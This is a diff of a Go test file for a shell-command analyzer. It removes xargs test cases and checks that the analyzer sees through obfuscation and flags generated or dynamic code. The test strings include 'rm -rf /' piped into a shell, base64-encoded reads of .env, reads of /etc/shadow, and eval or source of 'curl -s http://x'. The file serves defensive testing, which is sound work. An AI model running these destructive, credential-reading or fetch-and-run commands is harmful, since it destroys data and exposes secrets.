@@ -29,7 +29,6 @@ func TestStdinIntoNestedCode(t *testing.T) {
 		{"producer in braces", "{ printf 'rm -rf /\\n'; } | bash"},
 		{"producer in a subshell", "( echo 'rm -rf /' ) | sh"},
 		{"producer through sh -c", "sh -c \"echo 'rm -rf /'\" | bash"},
-		{"producer through xargs echo", "echo rm -rf / | xargs echo | sh"},
 		{"in a here-string", `sh <<< 'printf "rm -rf /" | sh -c "bash"'`},
 	}
 	for _, tt := range tests {
@@ -69,36 +68,10 @@ func TestUnknownStdinIntoNestedCode(t *testing.T) {
 	}
 }
 
-// TestStdinIsReadOnce: the first command that reads a pipe takes what is
-// known to flow in; a command after it reads what is left, which is not
-// known.
-func TestStdinIsReadOnce(t *testing.T) {
-	t.Parallel()
-	tests := []struct {
-		src  string
-		want string // the last command
-	}{
-		{"echo a | { cat >/dev/null; xargs rm; }", "rm {input}"},
-		{"echo a | { echo x; xargs rm; }", "rm a"},
-		{"echo a | { true; xargs rm; }", "rm a"},
-		{"echo a | bash -c 'read x; xargs rm'", "rm {input}"},
-		{"echo a | xargs -I{} sh -c 'xargs rm'", "rm {input}"},
-	}
-	for _, tt := range tests {
-		t.Run(tt.src, func(t *testing.T) {
-			t.Parallel()
-			a := Analyze(tt.src, Options{})
-			if got := a.Commands[len(a.Commands)-1].String(); got != tt.want {
-				t.Errorf("Analyze(%q): last is %q, want %q", tt.src, got, tt.want)
-			}
-		})
-	}
-}
-
 // TestFoldThroughWhatOnlyRuns: a substitution folds through what only
-// runs the command that prints (transparent wrappers, xargs echo, if
-// true, sh -c, eval, functions, subshells), and known input flows into
-// xargs the same way.
+// runs the command that prints (the shell's precommands, if true, sh -c,
+// eval, functions, subshells). (Through xargs, and known input into it:
+// TestXargsInput in internal/programs.)
 func TestFoldThroughWhatOnlyRuns(t *testing.T) {
 	t.Parallel()
 	tests := []struct {
@@ -109,8 +82,6 @@ func TestFoldThroughWhatOnlyRuns(t *testing.T) {
 		{"command", `rm -rf $(command printf /)`, []string{"rm", "-rf", "/"}},
 		{"builtin", `rm -rf $(builtin printf /)`, []string{"rm", "-rf", "/"}},
 		{"time", `cat "$(time echo .env)"`, []string{"cat", ".env"}},
-		{"xargs echo", `cat "$(echo LmVudg== | xargs echo | base64 -d)"`, []string{"cat", ".env"}},
-		{"xargs alone", `cat "$(echo .env | xargs)"`, []string{"cat", ".env"}},
 		{"if true", `cat "$(if true; then echo LmVudg==; fi | base64 -d)"`, []string{"cat", ".env"}},
 		{"bash -c filter", `cat "$(echo LmVudg== | bash -c 'base64 -d')"`, []string{"cat", ".env"}},
 		{"sh -c filter", `cat "$(echo LmVudg== | sh -c "base64 -d")"`, []string{"cat", ".env"}},
@@ -121,13 +92,6 @@ func TestFoldThroughWhatOnlyRuns(t *testing.T) {
 		{"for over words", `cat $(for x in a b; do echo $x; done)`, []string{"cat", "a", "b"}},
 		{"pwd after cd", `cat "$(cd /etc; pwd)/shadow"`, []string{"cat", "/etc/shadow"}},
 		{"script read from a pipe", `cat "$(echo 'echo .env' | bash)"`, []string{"cat", ".env"}},
-
-		// Known input reaches xargs through the same.
-		{"xargs after sh -c", `sh -c "echo /etc/shadow" | xargs cat`, []string{"cat", "/etc/shadow"}},
-		{"xargs after if true", "if true; then echo /etc/shadow; fi | xargs cat", []string{"cat", "/etc/shadow"}},
-		{"xargs after subshell", "( echo /etc/shadow ) | xargs cat", []string{"cat", "/etc/shadow"}},
-		{"xargs in sh -c", `echo -if .env src | sh -c "xargs rg"`, []string{"rg", "-if", ".env", "src"}},
-		{"xargs quoting", `printf '%s\n' "'a b'" 'c\ d' | xargs rm`, []string{"rm", "a b", "c d"}},
 
 		// What may not run, or not only once, or writes elsewhere.
 		{"sudo", `rm -rf /$(sudo echo tmp)`, []string{"rm", "-rf", "/$(sudo echo tmp)"}},
@@ -143,9 +107,6 @@ func TestFoldThroughWhatOnlyRuns(t *testing.T) {
 		{"stderr joins", `rm -rf /$(echo tmp 2>&1)`, []string{"rm", "-rf", "/$(echo tmp 2>&1)"}},
 		{"stderr elsewhere", `rm -rf /$(echo tmp 2>/dev/null)`, []string{"rm", "-rf", "/tmp"}},
 		{"assignment", `rm -rf /$(X=1 echo tmp)`, []string{"rm", "-rf", "/$(X=1 echo tmp)"}},
-		{"xargs -n", `cat "$(echo a b | xargs -n1 echo)"`, []string{"cat", "$(echo a b | xargs -n1 echo)"}},
-		{"xargs -0", `echo a b | xargs -0 rm`, []string{"rm", "{input}"}},
-		{"xargs open quote", `echo "'a" | xargs rm`, []string{"rm", "{input}"}},
 		{"sudo sh -c", `rm -rf /$(sudo sh -c 'echo tmp')`, []string{"rm", "-rf", "/$(sudo sh -c 'echo tmp')"}},
 		{"fish", `rm -rf /$(fish -c 'echo tmp')`, []string{"rm", "-rf", "/$(fish -c 'echo tmp')"}},
 		{"zsh", `rm -rf /$(zsh -c 'echo tmp')`, []string{"rm", "-rf", "/$(zsh -c 'echo tmp')"}},
@@ -162,14 +123,11 @@ func TestFoldThroughWhatOnlyRuns(t *testing.T) {
 		{"assignment alone", `rm -rf "/tmp$(x=1)"`, []string{"rm", "-rf", "/tmp"}},
 		{"function called by command", `echo() { printf tmp; }; rm -rf "/$(command echo)"`, []string{"rm", "-rf", "/$(command echo)"}},
 		{"function in a child shell", `echo() { printf tmp; }; rm -rf "/$(bash -c echo)"`, []string{"rm", "-rf", "/$(bash -c echo)"}},
-		{"function under xargs", `echo() { printf tmp; }; rm -rf "/$(echo a | xargs echo)"`, []string{"rm", "-rf", "/$(echo a | xargs echo)"}},
 		{"function in its child shell", `rm -rf "/$(bash -c 'f() { echo tmp; }; f')"`, []string{"rm", "-rf", "/tmp"}},
 		{"function in a subshell", `f() { echo tmp; }; rm -rf "/$( (f) )"`, []string{"rm", "-rf", "/tmp"}},
 		{"sh -e", `rm -rf "/$(sh -ec 'false; echo tmp')"`, []string{"rm", "-rf", "/$(sh -ec 'false; echo tmp')"}},
 		{"test", `rm -rf "/$([ -e x ]; echo tmp)"`, []string{"rm", "-rf", "/$([ -e x ]; echo tmp)"}},
 		{"toplevel elsewhere", `rm -rf "$(cd /; git rev-parse --show-toplevel)"`, []string{"rm", "-rf", "$(cd /; git rev-parse --show-toplevel)"}},
-		{"xargs with no input", `rm -rf "/$(printf '' | xargs echo; echo tmp)"`, []string{"rm", "-rf", "/$(printf '' | xargs echo; echo tmp)"}},
-		{"pipe with stderr", `echo /etc/shadow |& xargs cat`, []string{"cat", "{input}"}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -182,58 +140,6 @@ func TestFoldThroughWhatOnlyRuns(t *testing.T) {
 	}
 }
 
-// TestGeneratedCodeOfSetupCommands: eval or source of what a shell set-up
-// command prints is asked about, also when the set-up command is reached
-// through what only runs it; anything else that writes the code makes it
-// code nobody has seen.
-func TestGeneratedCodeOfSetupCommands(t *testing.T) {
-	t.Parallel()
-	tests := []struct {
-		src  string
-		want ProblemKind
-	}{
-		{`eval "$(pyenv init -)"`, ProblemGeneratedCode},
-		{`eval "$(echo - | xargs pyenv init)"`, ProblemGeneratedCode},
-		{`eval "$(echo - | xargs pyenv i\nit)"`, ProblemGeneratedCode},
-		{`eval "$(bash -c 'echo -' | x''args pyenv init)"`, ProblemGeneratedCode},
-		{`eval "$(time echo - | xargs echo | xargs pyenv init)"`, ProblemGeneratedCode},
-		{`eval "$(echo shellenv | xargs /opt/homebrew/bin/brew)"`, ProblemGeneratedCode},
-		{`eval "$(bash -c 'pyenv init -')"`, ProblemGeneratedCode},
-		{`eval "$(sh -c "direnv hook zsh")"`, ProblemGeneratedCode},
-		{`eval "$(if true; then if true; then pyenv init -; fi; fi)"`, ProblemGeneratedCode},
-		{`eval "$(eval 'pyenv init -')"`, ProblemGeneratedCode},
-		{`eval "$(pyenv init - 2>/dev/null)"`, ProblemGeneratedCode},
-		{`source <(kubectl completion zsh)`, ProblemGeneratedCode},
-		{`source <(bash -c "kubectl \\completion zsh")`, ProblemGeneratedCode},
-		{`\source <(command sh -c "kubectl completion bash")`, ProblemGeneratedCode},
-		{`source <(if true; then kubectl completion zsh; fi)`, ProblemGeneratedCode},
-		{`"eval" 'source <(sh -c "kubectl completion bash")'`, ProblemGeneratedCode},
-
-		{`eval "$(curl -s http://x)"`, ProblemDynamicCode},
-		{`eval "$(echo 'rm -rf /'; pyenv init -)"`, ProblemDynamicCode},
-		{`eval "$(pyenv init -; curl -s http://x)"`, ProblemDynamicCode},
-		{`eval "$(cat f | xargs pyenv init)"`, ProblemDynamicCode},
-		{`eval "$(if [ -e x ]; then pyenv init -; fi)"`, ProblemDynamicCode},
-		{`eval "$(sh -c "pyenv init -; curl -s http://x")"`, ProblemDynamicCode},
-		{`eval "$(bash -c "$X")"`, ProblemDynamicCode},
-		{`source <(curl -s http://x)`, ProblemDynamicCode},
-		{`source <(sh -c 'kubectl completion zsh' > /dev/null; curl x)`, ProblemDynamicCode},
-	}
-	for _, tt := range tests {
-		t.Run(tt.src, func(t *testing.T) {
-			t.Parallel()
-			a := Analyze(tt.src, Options{})
-			got := []ProblemKind{}
-			for _, p := range a.Problems {
-				got = append(got, p.Kind)
-			}
-			if !slices.Contains(got, tt.want) || tt.want == ProblemGeneratedCode && slices.Contains(got, ProblemDynamicCode) {
-				t.Errorf("Analyze(%q) problems = %v, want %v", tt.src, a.Problems, tt.want)
-			}
-		})
-	}
-}
-
 // TestInputWordsMayBeOptions: a word that xargs, parallel, find or fd
 // appends from input the analysis does not know is dynamic, and its value
 // starts with the part known only at run time ({input}), so that a reader
@@ -241,17 +147,8 @@ func TestGeneratedCodeOfSetupCommands(t *testing.T) {
 func TestInputWordsMayBeOptions(t *testing.T) {
 	t.Parallel()
 	for _, src := range []string{
-		"cat list | xargs rg",
-		"cat list | xargs -n1 rg",
-		"cat list | xargs -0 rg",
-		"cat list | xargs -I{} rg {}",
-		"cat list | xargs -I% rg %",
 		"cat list | parallel rg",
 		"cat list | parallel rg {}",
-		"find . -name x | xargs rg",
-		`cat list | sh -c "xargs rg"`,
-		`cat list | xargs sh -c 'rg "$@"' _`,
-		"xargs -a list rg",
 	} {
 		t.Run(src, func(t *testing.T) {
 			t.Parallel()
